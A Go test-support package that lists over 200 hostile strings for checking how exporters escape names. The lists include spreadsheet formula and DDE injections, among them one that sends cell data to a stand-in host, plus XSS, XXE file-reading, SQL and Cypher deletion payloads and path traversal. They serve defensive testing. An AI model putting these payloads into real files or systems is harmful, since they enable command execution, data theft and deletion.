// Package formattest has what is hard to write into files of other programs: names that people and files have come up with, and a network that
// has them in every place where a name can be, with parallel edges, days, scores and sources.
//
// It must know no format, and what is checked with it.
package formattest

import "strings"

// Hostile are 200 names and more: what spreadsheets compute, what browsers run, what quotes and markup of any format begin or end with, signs that
// cannot be seen, texts that other programs take for numbers, days or nothing, long ones, and names in many scripts. The first are those that
// golden files show.
func Hostile() []string {
	var all []string
	for _, group := range [][]string{formulas, markup, quotes, invisible, scripts, lookalikes, paths} {
		all = append(all, group...)
	}
	return append(all, strings.Repeat("長", 3000), strings.Repeat("x", 10000), strings.Repeat(`"<&\'`, 2000), strings.Repeat("🚢", 2500), strings.Repeat("a\u0301", 1500))
}

var formulas = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+1`, `-1+1`, `@SUM(A1)`, "\tx", "\rx", `＝1＋1`, `＋1`, `－1`, `＠x`, `-12.5`, `'=1`, `=HYPERLINK("http://x.example";"x")`,
	`=WEBSERVICE("http://x.example/"&A1)`, `=IMPORTXML("http://x.example","//a")`, `=DDE("cmd";"/C calc";"x")`, `+cmd|'/C calc'!A0`, `-cmd|'/C calc'!A0`,
	`@SUM(1+1)*cmd|'/C calc'!A0`, "\n=1+1", " =1+1", `;=1+1`, `%0A=1+1`, `{=1+1}`, `=2+5+cmd|' /C calc'!'A1'`, `_x0041_`, `_x000D_`, `_x005F_x0041_`, `=`, `+`, `-`, `@`,
}

var markup = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</graphml>`, `]]>`, `<![CDATA[x]]>`, `&amp;`, `&#0;`, `a & b`, `<!-- x`,
	`<svg onload=alert(1)>`, `javascript:alert(1)`, `<a href="javascript:alert(1)">x</a>`, `</script><script>alert(1)</script>`, `<style>*{display:none}</style>`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `&e;`, `&lt;b&gt;`, `<b>x</b>`, `-->`,
	`<x:y xmlns:x="urn:x"/>`, `<img src=x:x onerror&#61;alert(1)>`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= 1 %>`, `#{1}`, `[[x]](javascript:alert(1))`,
	`</title>`, `</textarea>`, `<math><mtext></mtext></math>`, `on=x`, `&#x3C;script&#x3E;`, `\u003cscript\u003e`, `<BR>`, `<HTML-like label>`,
}

var quotes = []string{
	`"`, `""`, `'`, `a,b`, `a;b`, "a\nb", "a\r\nb", `\`, `\n`, `{"a":1}`, `${x}`, `$(x)`, "`x`", `%s%n`, `%00`, `'; DROP TABLE parties; --`, `" OR ""="`, `\'`, `\"`,
	`\u0027`, `\\u0027`, `\\\u0027 RETURN 1`, `' + '`, `'}) DETACH DELETE n //`, "`) DETACH DELETE n //", `"]; A -> B; [`, `\L`, `\G \N \E`, `a|b`, `a\tb`, `"""`, `'''`, `//`, `/*`, `*/`, `--`, `#`,
	`a"b'c`, `\r\n`, `\x00`, `$p`, `:param x`, `;`, "x\ty",
}

var invisible = []string{
	"\u202eevil\u202c", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\u0000x", "a\u0007b", "a\u001bb", "\ufffe", "\uffff", "a\u0301", "\u00e1", "a\u001fb", "\u0085", "\u2028", "\u2029x",
	"a\u007fb", "\u200f", "\u00adx", "a\u00a0b", "\u180e", "\u2060x", "x\u0001", "\u001b[31mred\u001b[0m", "\u009b31m", "\ufff9x\ufffb", "\U000e0041", "\U0001f1ed\U0001f1f0", "👩\u200d✈️", "\u3000x\u3000", "\t", " ", "a\vb", "a\fb",
}

var scripts = []string{
	"永昌貿易有限公司", "株式会社トヨタ自動車", "주식회사 하나", "บริษัท ไทย จำกัด", "Công ty TNHH Á", "شركة التجارة", "ООО «Ромашка»", "חברה בע\"מ", "🚢⚓", "琥珀贸易（香港）", "Ελληνική Εμπορική Α.Ε.",
	"शिव व्यापार", "தமிழ் வணிகம்", "বাংলা বাণিজ্য", "ខ្មែរ ពាណិជ្ជកម្ម", "ລາວ ການຄ້າ", "မြန်မာ ကုန်သွယ်ရေး", "ქართული ვაჭრობა", "Հայկական առևտուր", "አማርኛ ንግድ", "Ðặng Văn", "ßtraße GmbH", "İstanbul Ticaret A.Ş.",
	"Łódź sp. z o.o.", "Ñandú S.A.", "ﾊﾝｶｸ", "Ｆｕｌｌ Ｗｉｄｔｈ", "𝕸𝖆𝖙𝖍", "𠮷野家", "㈱丸",
}

var lookalikes = []string{" x ", "null", "true", "NaN", "1e999", "01234", "2021-01-01", "nil", "None", "undefined", "0x10", "1,000", "1.0", "-0", "Infinity", "3/4", "12:30", "#N/A", "#REF!", "TRUE", "1E5", "０１２", "+852 2345 6789", "kim@x.example", "HKHKG", "00000000000000000001"}

var paths = []string{`../../etc/passwd`, `C:\Windows\system32`, `file:///etc/passwd`, `\\server\share`, `http://x.example/?a=1&b=2`, `CON`, `a/b`, `data:text/html,<script>alert(1)</script>`, `~`, `.`, `..`, `mailto:kim@x.example`}
